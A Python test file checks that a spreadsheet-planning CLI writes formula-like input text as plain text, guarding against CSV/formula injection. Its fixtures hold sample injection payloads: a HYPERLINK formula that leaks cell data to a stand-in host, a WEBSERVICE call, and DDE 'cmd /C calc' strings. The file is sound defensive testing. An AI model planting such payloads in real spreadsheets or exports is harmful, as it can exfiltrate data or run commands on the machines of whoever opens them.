"""Safety of what is written (issue 5): text from the inputs that looks like a formula stays text.

A name such as '=HYPERLINK(...)' or '@SUM(...)' typed into the input must reach the plan and the
diagnosis as a text cell, never as a formula Excel would run (CSV/formula injection).
"""

from __future__ import annotations

from pathlib import Path

import openpyxl
from typer.testing import CliRunner

from tests.support.workbooks import small_workbook
from trp_opt.cli import app

runner = CliRunner()
HOSTILE = {
    "title": '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "carrier": "-2+3+cmd|' /C calc'!A0",
    "unit": "@SUM(1+1)*cmd|' /C calc'!A0",
    "scenario": "+1+1",
    "project": '=WEBSERVICE("http://example.invalid")',
    "category": "@categories",
}


def hostile(rows) -> None:
    rows["Settings"][0]["Value"] = HOSTILE["title"]
    rows["Carriers"][1]["Name"] = HOSTILE["carrier"]
    rows["Carriers"][1]["Unit"] = HOSTILE["unit"]
    rows["Scenarios"][0]["Name"] = HOSTILE["scenario"]
    rows["Projects"][0]["Name"] = HOSTILE["project"]
    rows["Projects"][0]["Category"] = HOSTILE["category"]
    rows["Projects"][1]["Category"] = HOSTILE["category"]


def risky_cells(path: Path) -> list:
    book = openpyxl.load_workbook(path)
    return [
        cell
        for ws in book
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))
    ]


def test_formula_like_text_from_inputs_is_written_as_text(tmp_path):
    source = small_workbook(tmp_path / "small.xlsx", hostile)
    out = tmp_path / "plan.xlsx"
    result = runner.invoke(app, ["solve", "--quiet", str(source), "-o", str(out)])
    assert result.exit_code == 0, result.output
    cells = risky_cells(out)
    written = {c.value for c in cells}
    for text in HOSTILE.values():
        assert any(text in value for value in written), text  # each reached the plan ...
    assert all(c.data_type == "s" for c in cells), [(c.coordinate, c.data_type) for c in cells if c.data_type != "s"]
    book = openpyxl.load_workbook(out)  # ... and not one cell of the plan is a formula
    assert not [c for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_formula_like_text_in_a_diagnosis_is_text(tmp_path):
    def rules(rows):
        hostile(rows)
        rows["Policy"].append(
            {
                "Rule ID": "floor",
                "Rule": "category floor",
                "Category": HOSTILE["category"],
                "Amount": 500,
                "Amount unit": "money",
            }
        )

    source = small_workbook(tmp_path / "small.xlsx", rules)
    result = runner.invoke(app, ["solve", "--quiet", str(source), "-o", str(tmp_path / "plan.xlsx")])
    assert result.exit_code == 3, result.output
    diagnosis = tmp_path / "plan-diagnosis.xlsx"
    cells = risky_cells(diagnosis)
    assert any(
        HOSTILE["category"] in str(c.value)
        for ws in openpyxl.load_workbook(diagnosis)
        for row in ws.iter_rows()
        for c in row
    )
    assert all(c.data_type == "s" for c in cells)
